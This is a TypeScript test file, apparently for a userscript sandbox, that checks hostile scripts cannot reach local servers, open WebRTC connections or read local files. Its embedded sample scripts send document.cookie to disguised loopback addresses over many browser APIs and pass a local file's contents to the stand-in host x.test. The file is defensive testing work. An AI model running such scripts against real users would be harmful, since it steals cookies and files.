import { createSocket } from "node:dgram";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openTestBrowser, runSample, seen } from "./canary.test-support.ts";

const browser = openTestBrowser();
/** Connections to servers on this computer; there must be none. */
const heard: string[] = [];
const tcp = createServer((socket) => {
	heard.push("tcp");
	socket.destroy();
});
const udp = createSocket("udp4", () => heard.push("udp"));
let [port, udpPort, folder] = [0, 0, ""];

beforeAll(async () => {
	await new Promise<void>((resolve) => tcp.listen(0, "0.0.0.0", resolve));
	await new Promise<void>((resolve) => udp.bind(0, "0.0.0.0", resolve));
	const address = tcp.address();
	port = typeof address === "object" && address ? address.port : 0;
	udpPort = udp.address().port;
	folder = await mkdtemp(join(tmpdir(), "scriptorium-canary-file-"));
	await writeFile(join(folder, "secret.txt"), "thisfileisasecret");
});
afterAll(async () => {
	await browser.close();
	tcp.close();
	udp.close();
	await rm(folder, { recursive: true, force: true });
});

describe("a hostile script reaches nothing outside the browser", () => {
	it("by any kind of request to this computer, by any of its names or addresses", async () => {
		const hosts = [
			"127.0.0.1",
			"localhost",
			"[::1]",
			"2130706433",
			"0x7f.1",
			"0.0.0.0",
			"127.0.0.1.nip.io",
			"[::ffff:7f00:1]",
		];
		const body = `
			for (const host of ${JSON.stringify(hosts.map((host) => `${host}:${port}`))}) {
				for (const scheme of ['http', 'https']) {
					const to = scheme + '://' + host + '/?' + document.cookie;
					fetch(to, { mode: 'no-cors' }).catch(() => 0); new Image().src = to; navigator.sendBeacon(to, 'x');
					try { new WebSocket(to.replace('http', 'ws')) } catch { void 0 }
					try { new EventSource(to) } catch { void 0 }
					try { new WebTransport(to) } catch { void 0 }
					for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'modulepreload', 'stylesheet']) document.head.append(Object.assign(document.createElement('link'), { rel, href: to }));
					document.body.append(Object.assign(document.createElement('iframe'), { src: to }));
				}
			}
			window.open('http://127.0.0.1:${port}/popup');
			navigator.serviceWorker?.register('/worker.js').catch(() => 0);
			new Worker(URL.createObjectURL(new Blob(["fetch('http://127.0.0.1:${port}/worker').catch(() => 0)"])));
			setTimeout(() => location.assign('http://127.0.0.1:${port}/gone'), 7200e3);`;
		const report = await runSample(browser, body);
		expect(heard).toEqual([]);
		// The attempts were made and recorded.
		expect(seen(report)).toContain("cookie>127.0.0.1");
		expect(seen(report)).toContain("cookie>[::1]");
	});

	it("by peer connections, even in windows where the harness has not replaced the API", async () => {
		const server = `{ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }, { urls: 'turn:127.0.0.1:${udpPort}?transport=tcp', username: 'u', credential: 'c' }] }`;
		const body = `
			const frame = document.body.appendChild(document.createElement('iframe'));
			const popup = window.open('about:blank');
			for (const world of [window, frame.contentWindow, popup]) {
				try { const peer = new world.RTCPeerConnection(${server}); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); } catch { void 0 }
			}`;
		await runSample(browser, body);
		expect(heard).toEqual([]);
	});

	it("by reading a file of this computer", async () => {
		const file = `file://${folder}/secret.txt`;
		const body = `
			fetch(${JSON.stringify(file)}).then((r) => r.text()).then((t) => fetch('https://x.test/' + t)).catch(() => 0);
			const x = new XMLHttpRequest(); x.open('GET', ${JSON.stringify(file)}); x.onload = () => fetch('https://x.test/' + x.responseText); try { x.send() } catch { void 0 }
			GM_xmlhttpRequest({ url: ${JSON.stringify(file)}, onload: (r) => fetch('https://x.test/' + r.responseText) });
			document.body.append(Object.assign(document.createElement('iframe'), { src: ${JSON.stringify(file)} }));`;
		const report = await runSample(browser, body, ["@match *://*/*", "@grant GM_xmlhttpRequest"]);
		expect(report).toMatchObject({ answer: "ran", evidence: [] });
	});
});
